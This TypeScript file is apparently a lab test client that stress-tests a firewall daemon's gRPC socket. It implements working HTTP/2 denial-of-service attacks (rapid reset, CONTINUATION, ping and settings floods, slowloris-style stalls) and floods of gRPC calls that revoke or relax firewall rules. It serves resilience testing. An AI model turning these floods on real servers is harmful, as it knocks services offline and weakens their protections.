/**
 * A client of the daemon's socket that means harm, for the lab; it speaks HTTP/2
 * as no gRPC library would, and needs nothing but Node, so that it can be run by
 * whatever user is to be the attacker.
 *   hostile-client.js SOCKET call     makes calls: `{ method, hex }` a line in, their outcomes out
 *   hostile-client.js SOCKET ATTACK   goes on until it is ended
 */

import { type ClientHttp2Session, type ClientHttp2Stream, connect as connectHttp2 } from 'node:http2'
import { connect, type Socket } from 'node:net'
import { createInterface } from 'node:readline'

const SERVICES = '/netwatcher.v1.'
const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo'
/** file_containing_symbol = "netwatcher.v1.DaemonService". */
const ASK_FOR_FILES = grpcMessage(Buffer.from('\x22\x1bnetwatcher.v1.DaemonService'))
/** page_size = 1000. */
const LARGEST_PAGE = grpcMessage(Buffer.from([0x08, 0xe8, 0x07]))
const NOTHING = grpcMessage(Buffer.alloc(0))
/** One address, for an hour, to be confirmed within a minute. */
const PLAN = grpcMessage(Buffer.from('\x18\x90\x1c\x20\x3c\x32\x0b\x0a\x0910.79.0.2', 'latin1'))
/** A block that there is not, until whenever. */
const RELAX = grpcMessage(Buffer.from('\x0a\x04none\x10\x01'))
const PREFACE = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(4, 0, 0, Buffer.alloc(0)),
])
/** HPACK without tables (RFC 7541, section 6.2.2): enough for the server to open a stream. */
const HEADERS = hpack({
  ':method': 'POST',
  ':scheme': 'http',
  ':path': `${SERVICES}DaemonService/GetStatus`,
  ':authority': 'localhost',
  'content-type': 'application/grpc',
  te: 'trailers',
})
const END_HEADERS = 4
const AGAIN_MS = 20

const [socketPath = '', attack = ''] = process.argv.slice(2)

const ATTACKS: Record<string, () => void> = {
  none: () => setInterval(() => {}, 1000),
  call: makeCalls,
  'unread-answers': () =>
    keep(30, () =>
      session(0, (one) => times(32, () => post(one, 'FirewallService/ListAudit', LARGEST_PAGE).end())),
    ),
  'unread-reflection': () =>
    keep(16, () => session(0, (one) => times(8, () => pump(open(one, REFLECTION), ASK_FOR_FILES)))),
  'unread-streams': () =>
    keep(30, () => session(0, (one) => times(32, () => post(one, 'EventService/Watch', NOTHING).end()))),
  'silent-connections': () => keep(300, () => raw(Buffer.alloc(0))),
  'half-prefaces': () => keep(300, () => raw(PREFACE.subarray(0, 30))),
  'half-requests': () =>
    keep(60, () =>
      session(65_535, (one) => times(32, () => post(one, 'DaemonService/GetStatus', NOTHING.subarray(0, 3)))),
    ),
  'protocol-errors': () => keep(130, () => raw(Buffer.concat([PREFACE, frame(0, 0, 0, Buffer.from('x'))]))),
  'ping-flood': () => keep(8, () => flood(() => frame(6, 0, 0, Buffer.alloc(8)))),
  'settings-flood': () => keep(8, () => flood(() => frame(4, 0, 0, Buffer.alloc(0)))),
  'rapid-resets': () =>
    keep(8, () =>
      flood((id) =>
        Buffer.concat([frame(1, END_HEADERS, id, HEADERS), frame(3, 0, id, Buffer.from([0, 0, 0, 8]))]),
      ),
    ),
  'endless-headers': () =>
    keep(8, () =>
      flood((id) => Buffer.concat([frame(1, 0, id, HEADERS), ...Array(50).fill(frame(9, 0, id, HEADERS))])),
    ),
  'call-flood': () =>
    keep(20, () => session(65_535, (one) => times(16, () => repeat(one, 'DiscoveryService/ListNeighbors')))),
  'plan-flood': () =>
    keep(8, () => session(65_535, (one) => times(16, () => repeat(one, 'FirewallService/PlanBlock', PLAN)))),
  'revoke-all-flood': () =>
    keep(8, () => session(65_535, (one) => times(16, () => repeat(one, 'FirewallService/RevokeAll')))),
  'relax-flood': () =>
    keep(8, () =>
      session(65_535, (one) => times(16, () => repeat(one, 'FirewallService/RelaxPolicy', RELAX))),
    ),
  'cancelled-calls': () =>
    keep(8, () =>
      session(65_535, (one) => times(8, () => cancelled(one, 'DiscoveryService/ReadNeighborCache'))),
    ),
}

/** Runs an attack so many times at once, and each again when it has been ended. */
function keep(count: number, run: () => ClientHttp2Session | Socket): void {
  const again = () => {
    const one = run()
    one.on('error', () => {})
    one.once('close', () => setTimeout(again, AGAIN_MS))
  }
  times(count, again)
}

function times(count: number, act: () => void): void {
  for (let done = 0; done < count; done++) act()
}

function session(
  initialWindowSize: number,
  begin: (session: ClientHttp2Session) => void,
): ClientHttp2Session {
  const one = connectHttp2('http://localhost', { createConnection: dial, settings: { initialWindowSize } })
  one.once('connect', () => begin(one))
  return one
}

function open(one: ClientHttp2Session, path: string): ClientHttp2Stream {
  const headers = { ':method': 'POST', ':path': path, 'content-type': 'application/grpc', te: 'trailers' }
  const stream = one.request(headers)
  stream.on('error', () => {})
  return stream
}

function post(one: ClientHttp2Session, method: string, body: Buffer): ClientHttp2Stream {
  const stream = open(one, SERVICES + method)
  stream.write(body)
  return stream
}

/** Writes for as long as the stream is there. */
function pump(stream: ClientHttp2Stream, body: Buffer): void {
  const bulk = Buffer.alloc(body.length * 1000, body)
  const next = () => {
    if (!stream.destroyed) stream.write(bulk, next)
  }
  next()
}

function repeat(one: ClientHttp2Session, method: string, body = NOTHING): void {
  if (one.closed || one.destroyed) return
  const stream = post(one, method, body).end().resume()
  stream.once('close', () => setImmediate(() => repeat(one, method, body)))
}

function cancelled(one: ClientHttp2Session, method: string): void {
  if (one.closed || one.destroyed) return
  const stream = post(one, method, NOTHING).end()
  stream.once('close', () => setImmediate(() => cancelled(one, method)))
  setTimeout(() => stream.close(8), 1)
}

function dial(): Socket {
  return connect({ path: socketPath, allowHalfOpen: true })
}

/** A connection that says this and keeps its end open. */
function raw(bytes: Buffer): Socket {
  const socket = dial()
  socket.write(bytes)
  // The end is seen, and not answered until the other side has gone for good.
  socket.on('end', () => setTimeout(() => socket.destroy(), 1000))
  return socket.resume()
}

/** Frames as fast as they are taken; each is given the number of a new stream. */
function flood(frameOf: (streamId: number) => Buffer): Socket {
  const socket = dial()
  socket.write(PREFACE)
  let id = 1
  const next = () => {
    if (socket.destroyed) return
    const bulk: Buffer[] = []
    for (let count = 0; count < 200; count++, id += 2) bulk.push(frameOf(id))
    socket.write(Buffer.concat(bulk), next)
  }
  socket.once('connect', next)
  socket.once('end', () => socket.destroy())
  return socket.resume()
}

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const header = Buffer.alloc(9)
  header.writeUIntBE(payload.length, 0, 3)
  header[3] = type
  header[4] = flags
  header.writeUInt32BE(streamId, 5)
  return Buffer.concat([header, payload])
}

function hpack(headers: Record<string, string>): Buffer {
  const text = (value: string) => Buffer.concat([Buffer.from([value.length]), Buffer.from(value)])
  return Buffer.concat(
    Object.entries(headers).flatMap(([name, value]) => [Buffer.from([0]), text(name), text(value)]),
  )
}

function grpcMessage(message: Buffer): Buffer {
  const header = Buffer.alloc(5)
  header.writeUInt32BE(message.length, 1)
  return Buffer.concat([header, message])
}

/** One after the other, in the order of the lines. */
async function makeCalls(): Promise<void> {
  let one = session(65_535, () => {})
  one.on('error', () => {})
  for await (const line of createInterface({ input: process.stdin })) {
    if (one.closed || one.destroyed) one = session(65_535, () => {}).on('error', () => {})
    const { method, hex } = JSON.parse(line) as { method: string; hex: string }
    process.stdout.write(`${JSON.stringify(await outcome(one, method, Buffer.from(hex, 'hex')))}\n`)
  }
  one.close()
}

const DEADLINE_MS = 5000

interface Outcome {
  /** Of gRPC; 'none' when the call did not end, which a stream need not. */
  status: string
  reason: string
  /** What came, messages with their headers. */
  hex: string
}

function outcome(one: ClientHttp2Session, method: string, request: Buffer): Promise<Outcome> {
  return new Promise((resolve) => {
    const stream = post(one, method, grpcMessage(request)).end()
    const chunks: Buffer[] = []
    let headers: Record<string, unknown> = {}
    const deadline = setTimeout(() => stream.close(8), method.endsWith('/Watch') ? 200 : DEADLINE_MS)
    const take = (more: object) => {
      headers = { ...headers, ...more }
    }
    stream.on('response', take).on('trailers', take)
    stream.on('data', (chunk: Buffer) => chunks.push(chunk))
    stream.once('close', () => {
      clearTimeout(deadline)
      const { 'grpc-status': status = 'none', 'netwatcher-reason': reason = '' } = headers
      resolve({ status: String(status), reason: String(reason), hex: Buffer.concat(chunks).toString('hex') })
    })
  })
}

const run = ATTACKS[attack]
if (!run) throw new Error(`no attack ${attack}`)
run()
